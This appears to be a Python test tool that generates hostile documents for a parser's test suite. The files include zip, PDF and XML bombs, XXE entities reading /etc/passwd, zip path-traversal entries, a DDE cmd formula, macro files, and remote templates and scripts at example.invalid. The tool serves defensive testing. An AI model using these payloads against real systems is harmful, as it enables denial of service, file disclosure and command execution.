"""Documents that want a reader to fall: bombs, endless tables, broken, locked and macro files. Made when they are needed.

    python3 tests/tools/spec_documents/hostile.py --out DIR

Only Python's own library is used. Together they are some 500 megabytes, and unpack to several gigabytes.
"""

import argparse
import random
import struct
import warnings
import zipfile
import zlib
from pathlib import Path

TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{}" ContentType="{}"/></Types>')
RELATIONS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
             'Target="{}"{}/></Relationships>')
OFFICE = "application/vnd.openxmlformats-officedocument."
WORD = f"{OFFICE}wordprocessingml.document.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
BOOK = f"{OFFICE}spreadsheetml.sheet.main+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
SHEETS = f'<?xml version="1.0"?><workbook {S} {R}><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>'

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"


class Package:
    """A zip of OOXML; parts are text, bytes, or many pieces that are written one after the other."""

    def __init__(self, path):
        self.zip = zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED)

    def add(self, name, data, ways=zipfile.ZIP_DEFLATED):
        info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
        info.compress_type = ways
        with self.zip.open(info, "w", force_zip64=True) as part:
            for piece in [data] if isinstance(data, (str, bytes)) else data:
                part.write(piece.encode() if isinstance(piece, str) else piece)

    def word(self, body, kind=WORD):
        self.add("[Content_Types].xml", TYPES.format("word/document.xml", kind))
        self.add("_rels/.rels", RELATIONS.format("officeDocument", "word/document.xml", ""))
        self.add("word/document.xml", body)
        return self

    def book(self, sheet, shared=None, related=True):
        self.add("[Content_Types].xml", TYPES.format("xl/workbook.xml", BOOK))
        self.add("_rels/.rels", RELATIONS.format("officeDocument", "xl/workbook.xml", ""))
        self.add("xl/workbook.xml", SHEETS)
        relations = RELATIONS.format("worksheet", "worksheets/sheet1.xml", "")
        if shared:
            one = RELATIONS.format("sharedStrings", "sharedStrings.xml", "").replace("rId1", "rId2")
            relations = relations.replace("</Relationships>", one[one.index("<Relationship "):])
            self.add("xl/sharedStrings.xml", shared)
        if related:
            self.add("xl/_rels/workbook.xml.rels", relations)
        self.add("xl/worksheets/sheet1.xml", sheet)
        return self

    def related(self, folder, part, kind, data):
        """One more part that the main one points to."""
        main, owner = ("document.xml", "word") if folder == "word" else ("workbook.xml", "xl")
        relations = RELATIONS.format(kind, part, "").replace("rId1", "rId3")
        if folder == "xl":  # beside its sheet
            sheet = RELATIONS.format("worksheet", "worksheets/sheet1.xml", "")
            relations = relations.replace("</Relationships>", sheet[sheet.index("<Relationship "):])
        self.add(f"{owner}/_rels/{main}.rels", relations)
        self.add(f"{owner}/{part}", data)
        return self

    def padded(self):
        """So large that what it unpacks to is not out of proportion."""
        self.add("word/media/noise.png", random.Random(1).randbytes(1 << 20), zipfile.ZIP_STORED)
        return self

    def close(self):
        self.zip.close()


def body(inside):
    return f'<?xml version="1.0"?><w:document {W}><w:body>{inside}</w:body></w:document>'


def sheet(inside):
    return f'<?xml version="1.0"?><worksheet {S}><sheetData>{inside}</sheetData></worksheet>'


def around(begin, piece, times, end):
    yield begin
    for _ in range(times):
        yield piece
    yield end


def column(number):
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def bombs(out):
    """A gigabyte and more of nothing, in a file of a megabyte."""
    blank = " " * (1 << 20)
    p = Package(out / "bomb.docx")
    begin, end = body("<w:p><w:r><w:t>|</w:t></w:r></w:p>").split("|")
    p.word(around(begin, blank, 1200, end)).close()
    p = Package(out / "bomb.xlsx")
    p.book(around(*sheet("|").split("|")[:1], '<row><c t="inlineStr"><is><t>PID-3</t></is></c></row>' * 20000, 900,
                  sheet("|").split("|")[1])).close()
    p = Package(out / "bomb_parts.docx").word(body("<w:p/>"))
    for number in range(20000):  # far more parts than a document has
        p.add(f"word/media/image{number}.png", b"\0" * 4096)
    p.close()
    data = zlib.compress(zlib.compress(b" " * (1 << 30), 9), 9)
    (out / "bomb.pdf").write_bytes(pdf(PAGE[:-2] + b"/Contents 4 0 R >>", b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\n"
                                       b"stream\n%s\nendstream" % (len(data), data)))
    # Each group is painted apart, on a picture of the whole page, and holds the next one.
    groups = [b"<< /Type /XObject /Subtype /Form /BBox [0 0 2600 2600] /Group << /S /Transparency /I true /K true >> "
              b"/Resources << /XObject << /X %d 0 R >> /ExtGState << /G << /ca 0.5 /BM /Multiply >> >> >> /Length 11 >>\n"
              b"stream\n/G gs /X Do\nendstream" % (number + 6) for number in range(400)]
    last = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 10 >>\nstream\n0 0 9 9 re\nendstream"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2600 2600] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
    (out / "groups.pdf").write_bytes(pdf(page, b"<< /Length 5 >>\nstream\n/X Do\nendstream", *groups, last))
    entities = '<!DOCTYPE a [<!ENTITY e0 "lol">' + "".join(
        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 12)) + "]>"
    text = body("<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>")
    Package(out / "entities.docx").word(text.replace('"1.0"?>', '"1.0"?>' + entities)).close()
    outside = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://example.invalid/x">]>'
    text = body("<w:p><w:r><w:t>&x;&y;</w:t></w:r></w:p>")
    Package(out / "outside.docx").word(text.replace('"1.0"?>', '"1.0"?>' + outside)).close()


def endless(out):
    """Tables without an end in sight."""
    cells = "".join(f'<c r="{column(n)}1"/>' for n in range(1, 100001))
    Package(out / "columns.xlsx").book(sheet(f'<row r="1">{cells}</row>')).close()
    Package(out / "far.xlsx").book(sheet('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
                                         '<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>')).close()
    merged = sheet("").replace("</worksheet>", "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 1000 +
                               "</mergeCells></worksheet>")
    Package(out / "merged.xlsx").book(merged).close()
    row = "<w:tr>" + "<w:tc><w:tcPr><w:gridSpan w:val=\"2000000000\"/></w:tcPr><w:p/></w:tc>" * 50 + "</w:tr>"
    Package(out / "spans.docx").word(body(f"<w:tbl>{row * 50}</w:tbl>")).close()
    (out / "columns.csv").write_text("," * 100000 + "\n" + "," * 100000 + "x\n")
    (out / "spans.html").write_text('<table><tr><td colspan="2000000000" rowspan="2000000000">x</td></tr></table>')
    (out / "columns.html").write_text("<table><tr>" + "<td>" * 100000 + "</tr></table>")
    (out / "quote.csv").write_text('"PID-3,' + "never closed,\n" * 100000)


def repeated(out):
    """Small things, a million times: each is cheap, and all together are not."""
    row = "<row>" + '<c t="s"><v>0</v></c>' * 10 + "</row>"
    shared = f"<sst {S}><si><t>{'PID-3 ' * 200}</t></si></sst>"
    Package(out / "shared.xlsx").book(around(*parted(sheet("|"), row * 1000, 100)), shared).close()
    Package(out / "cells.xlsx").book(around(*parted(sheet("|"), "<row><c><v>1</v></c></row>" * 1000, 3000))).padded().close()
    Package(out / "empty_cells.xlsx").book(around(*parted(sheet("|"), "<row>" + "<c/>" * 10000 + "</row>", 1500))).padded().close()
    Package(out / "texts.xlsx").book(sheet(""), around(*parted(f"<sst {S}>|</sst>", "<si/>" * 100000, 200))).padded().close()
    merges = sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "x" * 30000 + '</t></is></c><c r="C1"><v>1</v></c></row>')
    merges = merges.replace("</worksheet>", "<mergeCells>" + '<mergeCell ref="A1:B1"/>' * 199999 + "</mergeCells></worksheet>")
    Package(out / "merges.xlsx").book(merges).close()
    one = sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>')
    looks = "<numFmts><numFmt numFmtId=\"170\" formatCode=\"&quot;" + "x" * 60000 + "&quot;0\"/></numFmts><cellXfs>"
    p = Package(out / "formats.xlsx").book(sheet('<row><c s="7"><v>1</v></c></row>'), related=False)
    p.related("xl", "styles.xml", "styles", around(*parted(
        f"<styleSheet {S}>{looks}|</cellXfs></styleSheet>", '<xf numFmtId="170"/>', 90000))).close()
    Package(out / "dimension.xlsx").book(one.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')).close()
    Package(out / "paragraphs.docx").word(around(*parted(body("|"), "<w:p/>" * 100000, 200))).padded().close()
    styled = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:rPr><w:rStyle w:val="s1"/></w:rPr></w:r></w:p>'
    styles = "".join(f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 1000}"/></w:style>'
                     for n in range(1000))
    p = Package(out / "styles.docx").word(around(*parted(body("|"), styled * 10000, 60)))
    p.related("word", "styles.xml", "styles", f"<w:styles {W}>{styles}</w:styles>").close()
    numbers = (f'<w:abstractNum w:abstractNumId="{n}"/><w:num w:numId="{n}"><w:abstractNumId w:val="{n}"/></w:num>'
               for n in range(1, 500001))
    p = Package(out / "numberings.docx").word(body("<w:p/>"))
    p.related("word", "numbering.xml", "numbering", [f"<w:numbering {W}>", *numbers, "</w:numbering>"]).close()
    notes = (f'<w:footnote w:id="{n}"/>' for n in range(1000000))
    p = Package(out / "notes.docx").word(body("<w:p/>"))
    p.related("word", "footnotes.xml", "footnotes", [f"<w:footnotes {W}>", *notes, "</w:footnotes>"]).close()
    p = Package(out / "relations.docx").word(body("<w:p/>"))
    begin, end = RELATIONS.format("|", "", "").split('<Relationship Id="rId1"')[0], "</Relationships>"
    p.add("word/_rels/document.xml.rels", [begin, *(f'<Relationship Id="a{n}" Target="b"/>' for n in range(1000000)), end])
    p.close()


def long(out):
    """Texts that are one text from end to end."""
    with open(out / "line.csv", "wb") as file:
        for _ in range(200):
            file.write(b"x" * (1 << 20))
    (out / "half_line.csv").write_text("PID-3 " * (5 << 20))
    (out / "old_letters.csv").write_bytes(b"\x80," * (15 << 20))
    (out / "paragraph.md").write_text("# A\n" + "PID-3 [a](b **c** `d` " * 1400000)
    (out / "lines.txt").write_text("PID-3 and what it holds\n" * 1300000)
    (out / "text.html").write_text("<html><p>" + "PID-3 &amp; " * 5500000)
    (out / "attribute.html").write_text('<html><p style="' + "color:red;" * 6000000 + '">PID-3</p>')
    text = "PID-3 &amp; " * 10000
    Package(out / "text.docx").word(around(*parted(body("<w:p><w:r><w:t>|</w:t></w:r></w:p>"), text, 1000))).padded().close()
    Package(out / "text.xlsx").book(around(*parted(
        sheet('<row><c t="inlineStr"><is><t>|</t></is></c></row>'), text, 1000))).padded().close()


def importing(out):
    """Tables that are read in no time, and that an importer could work on for hours."""
    (out / "codes.csv").write_text("Code,Meaning\n" + "".join(f"A{n},x\n" for n in range(200000)))
    (out / "code_goes_on.csv").write_text("Code,Meaning\nA,x\n" + ",and so on\n" * 200000)
    (out / "sets.csv").write_text("Value Set,Code,Meaning\n" + "".join(f"SET_{n},A,x\n" for n in range(150000)))
    (out / "fields.csv").write_text("Field,Name,Usage,Table,Notes\n" + "".join(
        f"PID-{n % 998 + 1}.{n // 998 % 998 + 1},N{n},R,0001,x\n" for n in range(150000)))
    places = " ".join(f"PID-{n}" for n in range(1, 400))
    (out / "places.csv").write_text("Field,Name,Usage,Notes\n" + f"{places},N,R,{'note ' * 200}\n" * 5000)
    (out / "format.csv").write_text("Segment,Description\nMSH,a\n" + "".join(
        f"{s},x\n" for _ in range(40000) for s in ("PID", "PV1", "OBX", "NTE")))
    (out / "events.csv").write_text("Event,Description\n" + "".join(
        f"Z{chr(65 + n // 26000 % 26)}{chr(65 + n // 1000 % 26)}^Z{n % 100:02},x\n" for n in range(100000)))
    (out / "blanks.csv").write_text("Field,Name,Usage\n" + f"PID{' ' * 60000}-3,x,R\n" * 300)
    one = "<h2>PID - Patient</h2><table><tr><th>SEQ<th>ELEMENT NAME<th>OPT</tr><tr><td>3<td>ID<td>R</tr></table>"
    (out / "tables.html").write_text("<html>" + one * 40000)
    (out / "titles.html").write_text("<html><table>" + "<tr><th>SEQ<th>ELEMENT NAME<th>OPT</tr><tr><td colspan=3><b>Segment "
                                     "PID: Patient</b></td></tr>" * 60000 + "</table>")
    table = "<table><tr><th>SEQ<th>ELEMENT NAME<th>OPT</tr><tr><td>3<td>ID<td>R</tr></table>"
    (out / "headings.html").write_text("<html><h1>" + "PID " * 1000000 + "</h1>" + table * 15000)
    many = "<tr>" + "".join(f"<th>{w}{n}" for n in range(300) for w in ("SEQ", "OPT", "LEN")) + "<th>SEQ<th>OPT</tr>"
    (out / "headings_wide.html").write_text(
        "<html><table>" + many + "<tr><td colspan=900><b>Segment PID: Patient</b></td></tr><tr><td>1<td>R</tr>" * 10000)
    row = '<tr><td colspan="1000" rowspan="1000000000">PID-3</td><td colspan="1000000000">x</td></tr>'
    (out / "wide.html").write_text("<html><table>" + row * 400 + "</table>")
    (out / "constraints.html").write_text(
        "<html><h2>OBX</h2><table><tr><th>IF<th colspan=2>THEN</tr><tr><th>OBX-3<th>OBX-5<th>OBX-6</tr>" + "".join(
            f"<tr><td>C{n}<td>SET {n}<td>UNITS {n}</tr>" for n in range(60000)) + "</table>")


def parted(around_bar, piece, times):
    """As around() takes it."""
    begin, end = around_bar.split("|")
    return begin, piece, times, end


def lying(out):
    """Zips that say what is not so: of sizes, of names, or of one part twice."""
    p = Package(out / "twice.docx").word(body("<w:p><w:r><w:t>first</w:t></w:r></w:p>"))
    with warnings.catch_warnings():  # which Python gives at the second
        warnings.simplefilter("ignore")
        p.add("word/document.xml", body("<w:p><w:r><w:t>second</w:t></w:r></w:p>"))
    p.close()
    p = Package(out / "rooted.docx").word(body("<w:p/>"))
    p.add("/etc/climbed.xml", "x")
    p.add("C:\\climbed.xml", "x")
    p.close()
    Package(out / "sizes.docx").word(around(*parted(body("|"), "<w:p/>" * 100000, 200))).close()
    data = bytearray((out / "sizes.docx").read_bytes())
    at = data.rindex(b"PK\x01\x02")  # of the document, which is the last part
    data[at + 24:at + 28] = struct.pack("<I", 1000)
    (out / "sizes.docx").write_bytes(data)
    data[at + 24:at + 28] = struct.pack("<I", 0xFFFFFFFE)
    (out / "sizes_more.docx").write_bytes(data)


def deep(out):
    """One thing in another, a hundred thousand times."""
    times = 100000
    Package(out / "deep.docx").word(body("<w:p>" * times + "</w:p>" * times)).close()
    table = "<w:tbl><w:tr><w:tc>" * 5000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 5000
    Package(out / "deep_tables.docx").word(body(table)).close()
    Package(out / "deep.xlsx").book(sheet("<row>" * times + "</row>" * times)).close()
    (out / "deep.html").write_text("<div>" * times + "PID-3")
    (out / "deep_tables.html").write_text("<table><tr><td>" * 20000 + "PID-3")
    (out / "deep.pdf").write_bytes(pdf(b"[" * times + b"]" * times))


def broken(out):
    whole = Package(out / "broken_xml.docx")
    whole.word(body("<w:p><w:r><w:t>PID-3 & <w:q></w:p>")[:-30]).close()
    Package(out / "broken_xml.xlsx").book(sheet('<row r="x"><c r="" t="s"><v>99999999999</v></c><c t="q"')).close()
    Package(out / "wrong_letters.docx").word(b'<?xml version="1.0" encoding="UTF-8"?>\xff\xfe\x00<w:document>\xc3\x28').close()
    p = Package(out / "cut.docx")
    p.word(body("<w:p/>" * 1000)).close()
    data = (out / "cut.docx").read_bytes()
    (out / "cut.docx").write_bytes(data[: len(data) // 2])
    (out / "no_parts.xlsx").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    p = Package(out / "circle.docx").word(body("<w:p/>"))
    p.add("word/_rels/document.xml.rels", RELATIONS.format("footnotes", "document.xml", ""))
    p.close()
    p = Package(out / "climbing.docx").word(body("<w:p/>"))
    p.add("../../../../tmp/climbed.xml", "x")
    p.close()
    (out / "broken.pdf").write_bytes(pdf(b"<< /Type /Nothing >>")[:-40])
    (out / "circle.pdf").write_bytes(pdf(b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>"))
    (out / "empty.pdf").write_bytes(b"%PDF-1.7\n")
    (out / "nothing.docx").write_bytes(b"")


def pdf(*more):
    """A PDF whose third object, to which the page tree leads, and those behind it are what a test wants."""
    parts = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", *more]
    data, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(data)
    data += b"xref\n0 %d\n" % (len(parts) + 1) + b"0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % p for p in places)
    return data + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, start)


def locked(out):
    """Files with a password: nobody here knows it."""
    page = pdf(PAGE)
    key = b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s> >> /ID [<%s> <%s>]" % (
        b"11" * 32, b"22" * 32, b"33" * 16, b"33" * 16)
    (out / "locked.pdf").write_bytes(page.replace(b"/Root 1 0 R", b"/Root 1 0 R " + key))
    # A locked OOXML file is no zip but an OLE container with these two streams; so is a .doc, with others.
    for name, streams in (("locked.xlsx", ("EncryptionInfo", "EncryptedPackage")), ("locked.docx", ("EncryptionInfo",
                          "EncryptedPackage")), ("old.doc", ("WordDocument",)), ("old.xls", ("Workbook",))):
        (out / name).write_bytes(container(streams))


def container(streams):
    """An OLE container: header, one sector of its table, one of its directory, one of what the streams hold."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack(
        "<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, 1, 0, 0, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<I", 0) + b"\xff" * (4 * 108)
    table = struct.pack("<III", 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE) + b"\xff" * (512 - 12)
    directory = entry("Root Entry", 5, 1) + b"".join(
        entry(name, 2, number + 2 if number + 1 < len(streams) else -1) for number, name in enumerate(streams))
    return head + table + directory.ljust(512, b"\0") + b"\1" * 512


def entry(name, kind, following):
    text = name.encode("utf-16-le")
    child = 1 if kind == 5 else -1
    beside = -1 if kind == 5 else following
    return text.ljust(64, b"\0") + struct.pack("<HBBiii16sIQQIQ", len(text) + 2, kind, 1, -1, beside, child, b"\0" * 16, 0, 0, 0,
                                               0xFFFFFFFE if kind == 5 else 2, 0 if kind == 5 else 512)


def reaching_out(out):
    """Macros and things from elsewhere: neither may be run or fetched."""
    p = Package(out / "macros.docm").word(body("<w:p><w:r><w:t>PID-3</w:t></w:r></w:p>"), MACRO_WORD)
    p.add("word/_rels/document.xml.rels", RELATIONS.format("vbaProject", "vbaProject.bin", ""))
    p.add("word/vbaProject.bin", container(("VBA", "dir")))
    p.close()
    p = Package(out / "remote.docx").word(body("<w:p><w:r><w:t>PID-3</w:t></w:r></w:p>"))
    p.add("word/_rels/document.xml.rels", RELATIONS.format("attachedTemplate", "http://example.invalid/t.dotm",
                                                           ' TargetMode="External"'))
    p.close()
    (out / "remote.html").write_text('<html><head><link rel="stylesheet" href="http://example.invalid/a.css"><script src='
                                     '"http://example.invalid/a.js"></script><meta http-equiv="refresh" content="0;url=http://'
                                     'example.invalid/"></head><body><img src="http://example.invalid/p.png"><iframe src="file:'
                                     '///etc/passwd"></iframe><table><tr><th>SEQ</th></tr></table></body></html>')
    Package(out / "formula.xlsx").book(sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://example.invalid/")</f><v>1</v></c>'
                                             '<c r="B1" t="str"><f>cmd|\' /c calc\'!A0</f><v>x</v></c></row>')).close()


def main():
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("--out", type=Path, required=True)
    out = options.parse_args().out
    out.mkdir(parents=True, exist_ok=True)
    for make in (bombs, endless, repeated, long, importing, lying, deep, broken, locked, reaching_out):
        make(out)
    print(f"{sum(1 for _ in out.iterdir())} hostile documents in {out}")


if __name__ == "__main__":
    main()
